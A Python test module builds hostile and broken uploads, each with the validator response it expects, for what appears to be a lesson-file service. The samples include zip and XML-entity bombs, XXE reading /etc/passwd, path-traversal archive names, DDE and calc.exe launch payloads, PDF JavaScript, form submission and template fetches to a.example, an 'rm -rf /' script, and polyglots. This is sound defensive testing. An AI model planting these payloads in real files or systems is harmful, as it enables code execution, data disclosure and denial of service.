# ruff: noqa: E501 - pieces of foreign formats are read whole
"""Hostile and broken files, all made here; each with the exact answer that it must get.

`Hostile(name, make, refused=…)` is stopped at the door with these words; otherwise it is stored, read in
the background and bears exactly these marks, in the given state, with `words` among what was read.
"""

from collections.abc import Callable
from dataclasses import dataclass
import io
import struct
import zipfile
import zlib

from PIL import Image

from tests.core.files import samples
from tests.core.sandbox import bombs

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
BROKEN_ARCHIVE = "Архив повреждён"
BOMB = "слишком большой объём"
MANY = "слишком много файлов"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ха"}">' for n in range(10))


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file, what it is called, and the answer it must get."""

    name: str
    make: Callable[[], bytes]
    refused: str = ""
    marks: str = ""
    state: str = "read"
    words: str = ""


def picture(kind: str = "PNG", size: tuple[int, int] = (60, 40), **options: object) -> bytes:
    """A true picture."""
    out = io.BytesIO()
    Image.new("RGB", size, 128).save(out, kind, **options)
    return out.getvalue()


def word(
    body: str = "<w:p><w:r><w:t>Урок</w:t></w:r></w:p>",
    relations: str = "",
    begins: str = "",
    **parts: bytes,
) -> bytes:
    """A DOCX by hand: a body, relations of the document, what stands before its root."""
    named = {
        name.replace("__", "/").replace("_bin", ".bin").replace("_xml", ".xml"): content
        for name, content in parts.items()
    }
    return bombs.zipped(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": f'<?xml version="1.0"?>{begins}<w:document xmlns:w="{WORD}" xmlns:r="{REL}"><w:body>{body}</w:body></w:document>'.encode(),
            "word/_rels/document.xml.rels": f'<Relationships xmlns="{PACKAGE}">{relations}</Relationships>'.encode(),
            **named,
        }
    )


def relation(kind: str, target: str, mode: str = "External") -> str:
    """A relation of a document."""
    return f'<Relationship Id="rId9" Type="{REL}/{kind}" Target="{target}" TargetMode="{mode}"/>'


def said(words: str) -> str:
    """A paragraph of a DOCX with a field."""
    return f"<w:p><w:r><w:instrText>{words}</w:instrText></w:r></w:p>"


def pdf(*objects: bytes, catalog: bytes = b"", page: bytes = b"") -> bytes:
    """A PDF by hand, its table of objects right."""
    text = b"BT /F1 24 Tf 20 100 Td (Lesson) Tj ET"
    parts = [
        b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>"
        + page
        + b">>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(text), text),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        *objects,
    ]
    return written(parts)


def written(parts: list[bytes], trailer: bytes = b"") -> bytes:
    """Objects as a PDF."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, part in enumerate(parts, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(parts) + 1)
    for place in places:
        out += b"%010d 00000 n \n" % place
    out += b"trailer<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(parts) + 1,
        trailer,
        table,
    )
    return bytes(out)


def many_pages(count: int) -> bytes:
    """A PDF of very many empty pages."""
    kids = b" ".join(b"%d 0 R" % (n + 3) for n in range(count))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]>>"
    return written(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count),
            *[page] * count,
        ]
    )


def looped_pages() -> bytes:
    """Pages that are their own parents."""
    return written(
        [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1000000>>"]
    )


def packed_script() -> bytes:
    """A script's name hidden in a packed stream of objects."""
    inside = zlib.compress(b"9 0 <</S/JavaScript/JS(app.alert\\(1\\))>>")
    return pdf(
        b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
        % (len(inside), inside)
    )


def inflating_pdf() -> bytes:
    """A page whose words inflate to a gigabyte."""
    packer = zlib.compressobj(9)
    block = packer.compress(bytes(1024 * 1024)) + packer.flush(zlib.Z_FULL_FLUSH)
    one = packer.compress(bytes(1024 * 1024)) + packer.flush(zlib.Z_FULL_FLUSH)
    stream = block + one * 1023 + packer.flush()
    parts = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"]
    parts += [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R>>"]
    parts += [b"<</Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(stream), stream)]
    return written(parts)


def locked_pdf() -> bytes:
    """A PDF that opens with a password alone (the standard handler, keys of nonsense)."""
    lock = b"<</Filter/Standard/V 1/R 2/Length 40/P -44/O<%s>/U<%s>>>" % (b"ab" * 32, b"cd" * 32)
    parts = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"]
    parts += [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>", lock]
    return written(
        parts,
        b"/Encrypt 4 0 R/ID[<00112233445566778899aabbccddeeff><00112233445566778899aabbccddeeff>]",
    )


def locked_archive() -> bytes:
    """An archive whose members say that they are encrypted."""
    content = bytearray(bombs.zipped({"план.txt": b"x" * 40}))
    content[6] |= 1
    content[content.rindex(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def quine() -> bytes:
    """An archive that holds a copy of itself, as far as two levels of us go."""
    inner = bombs.zipped({"r.zip": b"PK\x03\x04" + bytes(200)})
    return bombs.zipped({"r.zip": inner, "r/r.zip": inner})


def deep(opening: str, closing: str, levels: int) -> str:
    """Elements in elements."""
    return opening * levels + closing * levels


def locked_open() -> bytes:
    """An ODT closed by a password."""
    name = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
    manifest = f'<m:manifest xmlns:m="{name}"><m:file-entry m:full-path="content.xml"><m:encryption-data/></m:file-entry></m:manifest>'
    return samples.open_document(
        "text", "<office:text/>", **{"META-INF__manifest_xml": manifest.encode()}
    )


def open_text(body: str) -> bytes:
    """An ODT with a body."""
    return samples.open_document("text", f"<office:text>{body}</office:text>")


def renamed(content: bytes, name: bytes, new: bytes) -> bytes:
    """An archive with another name of a member, of the same length."""
    assert len(name) == len(new)
    return content.replace(name, new)


def wide_book() -> bytes:
    """An XLSX that says it has 17 billion cells, with one in its far corner."""
    cells = '<c r="XFD1" t="inlineStr"><is><t>край</t></is></c>'
    sheet = bombs.sheet(cells).replace(
        b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>'
    )
    return bombs.workbook(sheet1=sheet)


def running_book(formula: str) -> bytes:
    """An XLSX with a formula."""
    return bombs.workbook(sheet1=bombs.sheet(f'<c r="A1"><f>{formula}</f><v>1</v></c>'))


def old(*streams: str) -> bytes:
    """An old office file with streams of these names."""
    return OLE + bytes(600) + b"".join(name.encode("utf-16-le") for name in streams)


def epub(chapter: bytes) -> bytes:
    """A book of one chapter."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/epub+zip", zipfile.ZIP_STORED)
        archive.writestr(
            "META-INF/container.xml",
            '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="b/c.opf"/></rootfiles></container>',
        )
        archive.writestr(
            "b/c.opf",
            '<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="a" href="a.html"/></manifest><spine><itemref idref="a"/></spine></package>',
        )
        archive.writestr("b/a.html", chapter)
    return out.getvalue()


PROGRAM, MARKUP = "Это программа", "Веб-страницы и картинки SVG"
NOT_TAKEN, WRONG_NAME = "Такие файлы здесь не принимаются", "Имя файла кончается на"

CORPUS = (
    # -- nothing, cut, misnamed
    Hostile("пусто.docx", lambda: b"", refused="ноль байт"),
    Hostile("обрезан.docx", lambda: samples.word()[:-400], refused=BROKEN_ARCHIVE),
    Hostile("начало.docx", lambda: b"PK\x03\x04" + bytes(200), refused=BROKEN_ARCHIVE),
    Hostile("середина.docx", lambda: samples.word()[:2000] + bytes(500) + samples.word()[2500:], state="unreadable", marks="broken"),
    Hostile("обрезан.pdf", lambda: samples.pdf()[:500], state="unreadable", marks="broken"),
    Hostile("начало.pdf", lambda: b"%PDF-1.7\n", state="unreadable", marks="broken"),
    Hostile("обрезана.png", lambda: picture()[:60], refused="повреждён"),
    Hostile("обрезано.mp4", lambda: samples.video()[:40], state="unreadable", marks="broken"),
    Hostile("шум.bin", lambda: bytes(range(256)) * 40, refused=NOT_TAKEN),
    Hostile("это.pdf", samples.word, refused=WRONG_NAME),
    Hostile("это.docx", samples.pdf, refused=WRONG_NAME),
    Hostile("игра.docx", lambda: b"MZ\x90\0" + bytes(200), refused=PROGRAM),
    Hostile("скрипт.txt", lambda: b"#!/bin/sh\nrm -rf /", refused=PROGRAM),
    Hostile("гость\u202efdp.exe", lambda: b"MZ\x90\0" + bytes(200), refused=PROGRAM),
    # -- web pages and scripts
    Hostile("схема.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"><script>x()</script></svg>', refused=MARKUP),
    Hostile("страница.txt", lambda: b"\xef\xbb\xbf  <!DOCTYPE html><script>x()</script>", refused=MARKUP),
    Hostile("страница.png", lambda: b"<html><body onload=x()>", refused=MARKUP),
    Hostile("таблица.csv", lambda: "Имя;Ответ\n=cmd|' /C calc'!A0;<script>x()</script>".encode(), words="<script>x()</script>"),
    # -- bombs
    Hostile("бомба.zip", lambda: bombs.zipped({"a": 60}), refused=BOMB),
    Hostile("десять гигабайт.zip", lambda: bombs.ten_gigabytes("a", 0xFFFFFFFE), refused=BOMB),
    Hostile("ложь о размере.docx", lambda: bombs.ten_gigabytes("word/document.xml", 1000), refused=WRONG_NAME),
    Hostile("внахлёст.zip", lambda: bombs.overlapping(9000), refused=BOMB),
    Hostile("миллион.zip", lambda: bombs.overlapping(200_000), refused=MANY),
    Hostile("матрёшка.zip", lambda: bombs.nested(3), marks="attached"),
    Hostile("сам в себе.zip", quine, marks="attached", words="r/r.zip"),
    Hostile("программа.zip", lambda: bombs.zipped({"игра.exe": b"MZ"}), refused="есть программа"),
    Hostile("под паролем.zip", locked_archive, refused="закрыт паролем"),
    Hostile("чужая папка.zip", lambda: bombs.zipped({"../../etc/passwd": b"x", "/etc/shadow": b"x"}), words="../../etc/passwd"),
    Hostile("ссылка.zip", lambda: bombs.zipped({"C:\\Windows\\a.txt": b"x"}), words="Windows"),
    Hostile("бомба.docx", lambda: word(word__media__a_bin=bytes(60 * 1024 * 1024)), refused=BOMB),
    Hostile("сто мегабайт слов.docx", lambda: word(body="<w:p><w:r><w:t>" + "".join(f"слово{n} " for n in range(2_000_000)) + "</w:t></w:r></w:p>"), state="unreadable", marks="big"),
    Hostile("смех.docx", lambda: word(body="<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>", begins=f"<!DOCTYPE x [{LAUGHS}]>"), state="unreadable", marks="broken"),
    Hostile("чужой файл.docx", lambda: word(body="<w:p><w:r><w:t>&a;</w:t></w:r></w:p>", begins='<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'), state="unreadable", marks="broken"),
    Hostile("смех.xlsx", bombs.entity_workbook, state="unreadable", marks="broken"),
    Hostile("без края.xlsx", wide_book, words="a"),
    Hostile("без края.ods", samples.calc, words="Тема | 6"),
    Hostile("повтор.ods", lambda: samples.open_document("spreadsheet", '<office:spreadsheet><table:table table:name="А"><table:table-row table:number-rows-repeated="99999999"><table:table-cell table:number-columns-repeated="99999999"><text:p>много</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>'), marks="long", words="много | много"),
    Hostile("вглубь.docx", lambda: word(body=deep("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>", 5_000)), state="unreadable", marks="broken"),
    Hostile("вглубь.odt", lambda: open_text(deep("<text:list><text:list-item>", "</text:list-item></text:list>", 5_000)), state="unreadable", marks="broken"),
    Hostile("таблица в таблице.docx", lambda: word(body=deep("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", 60)), words=""),
    Hostile("огромная.png", lambda: bombs.png(50_000, 50_000), refused="слишком много точек"),
    Hostile("мультфильм.gif", lambda: bombs.gif(20_000)[:20_000], refused="повреждён"),
    Hostile("надувается.pdf", inflating_pdf, state="unreadable", marks="broken"),
    Hostile("десять тысяч.pdf", lambda: many_pages(10_000), marks="long"),
    Hostile("петля.pdf", looped_pages, state="unreadable", marks="broken"),
    Hostile("вглубь.pdf", lambda: pdf(b"[" * 100_000 + b"]" * 100_000), words="Lesson"),
    # -- passwords
    Hostile("секрет.pdf", locked_pdf, state="unreadable", marks="encrypted"),
    Hostile("секрет.docx", lambda: old("EncryptedPackage", "EncryptionInfo"), state="unreadable", marks="encrypted"),
    Hostile("секрет.bin", lambda: old("EncryptedPackage"), refused="закрыт паролем"),
    Hostile("секрет.odt", locked_open, state="unreadable", marks="encrypted"),
    # -- what runs by itself
    Hostile("макросы.docm", samples.word_with_macros, marks="macros", words="Ход урока"),
    Hostile("макросы.doc", lambda: old("WordDocument", "_VBA_PROJECT"), state="unreadable", marks="macros"),
    Hostile("макросы.odt", lambda: samples.open_document("text", "<office:text><text:p>Да</text:p></office:text>", Basic__a_xml=b"<x/>"), marks="macros", words="Да"),
    Hostile("актив.docx", lambda: word(word__activeX__activeX1_bin=b"x"), marks="active attached", words="Урок"),
    Hostile("dde.docx", lambda: word(body=said("DDEAUTO c:\\\\windows\\\\cmd.exe")), marks="active outer"),
    Hostile("dde.xlsx", lambda: running_book("cmd|' /C calc'!A0"), marks="active", words="1"),
    Hostile("из сети.xlsx", lambda: running_book('WEBSERVICE("http://a.example/")'), marks="outer", words="1"),
    Hostile("слушатель.odt", lambda: open_text('<office:event-listeners><script:event-listener xlink:href="a"/></office:event-listeners><text:p>Да</text:p>'), marks="active", words="Да"),
    Hostile("скрипт.pdf", lambda: pdf(catalog=b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), marks="active", words="Lesson"),
    Hostile("скрытый скрипт.pdf", lambda: pdf(catalog=b"/OpenAction<</S/J#61vaScript/JS(1)>>"), marks="active", words="Lesson"),
    Hostile("упакованный скрипт.pdf", packed_script, marks="active", words="Lesson"),
    Hostile("запуск.pdf", lambda: pdf(page=b"/AA<</O<</S/Launch/F(calc.exe)>>>>"), marks="active", words="Lesson"),
    Hostile("отправка.pdf", lambda: pdf(page=b"/AA<</O<</S/SubmitForm/F<</FS/URL/F(http://a.example)>>>>>>"), marks="active outer", words="Lesson"),
    Hostile("книга.epub", lambda: epub(b"<html><body><h1>Book</h1><script>x()</script><p>Words</p></body></html>"), marks="active", words="Book\nWords"),
    # -- what reaches out, what is hidden inside
    Hostile("шаблон.docx", lambda: word(relations=relation("attachedTemplate", "http://a.example/t.dotm")), marks="outer", words="Урок"),
    Hostile("картинка из сети.docx", lambda: word(relations=relation("image", "http://a.example/1.png")), marks="outer", words="Урок"),
    Hostile("папка соседа.docx", lambda: word(relations=relation("hyperlink", "file://server/share/a")), marks="outer", words="Урок"),
    Hostile("обычная ссылка.docx", lambda: word(relations=relation("hyperlink", "https://fipi.ru/")), words="Урок"),
    Hostile("объект.docx", lambda: word(body="<w:p><w:r><w:t>Урок</w:t><w:object/></w:r></w:p>", word__embeddings__oleObject1_bin=OLE), marks="attached", words="Урок"),
    Hostile("ссылка наружу.odt", lambda: open_text('<text:section><text:section-source xlink:href="file:///etc/passwd"/><text:p>Да</text:p></text:section>'), marks="outer", words="Да"),
    Hostile("вложение.pdf", lambda: pdf(catalog=b"/Names<</EmbeddedFiles<</Names[(a.exe)6 0 R]>>>>"), marks="attached", words="Lesson"),
    Hostile("объект.rtf", lambda: rb"{\rtf1{\object\objautlink\objupdate{\*\objdata 0105}}Words\par}", marks="active attached outer", words="Words"),
    Hostile("шаблон.rtf", lambda: rb"{\rtf1{\*\template http://a.example/t.dotm}Words\par}", marks="outer", words="Words"),
    Hostile("вглубь.rtf", lambda: b"{\\rtf1 Words\\par " + b"{" * 100_000 + b"}" * 100_000 + b"}", words="Words"),
    Hostile("бинарный.rtf", lambda: b"{\\rtf1 \\u99999999999? \\'zz \\bin999999999 Words\\par", words="Words"),
    # -- two faces
    Hostile("два лица.pdf", lambda: b"<!-- " + samples.pdf(), refused=MARKUP),
    Hostile("сначала мусор.pdf", lambda: b"GARBAGE\n" * 4 + samples.pdf(), marks="polyglot", words="Первая страница урока"),
    Hostile("pdf и zip.pdf", lambda: samples.pdf() + bombs.zipped({"a.txt": b"x"}), marks="polyglot", words="Первая страница урока"),
    Hostile("pdf и html.pdf", lambda: samples.pdf().replace(b"\n", b"\n%<html><script>x()</script>\n", 1), marks="polyglot", words=""),
    Hostile("снимок и страница.jpg", lambda: picture("JPEG", comment=b"<html><script>x()</script>") + b"<script>x()</script>"),
    Hostile("гифка и скрипт.gif", lambda: picture("GIF") + b"/*<script>x()</script>*/"),
    Hostile("pdf в zip.zip", lambda: bombs.zipped({"%PDF-1.7": b"%PDF-1.7"}, zipfile.ZIP_STORED), marks="polyglot"),
    Hostile("звук и архив.wav", lambda: samples.sound() + bombs.zipped({"a.txt": b"x"}), marks="polyglot"),
    # -- recordings that lie
    Hostile("век.mp4", lambda: samples.video(seconds=4_000_000), state="unreadable", marks="broken"),
    Hostile("стена.mp4", lambda: samples.video(width=65_000, height=65_000), state="unreadable", marks="broken"),
    Hostile("ящики.mp4", lambda: samples.box(b"ftyp", b"isom\0\0\0\0") + samples.box(b"free", b"") * 50_000, state="unreadable", marks="broken"),
    Hostile("длиннее себя.mp4", lambda: samples.box(b"ftyp", b"isom\0\0\0\0") + struct.pack(">I", 0x7FFFFFFF) + b"moov" + bytes(100), state="unreadable", marks="broken"),
    Hostile("без частоты.wav", lambda: samples.sound().replace(struct.pack("<II", 8000, 8000), bytes(8), 1), state="unreadable", marks="broken"),
)  # fmt: skip
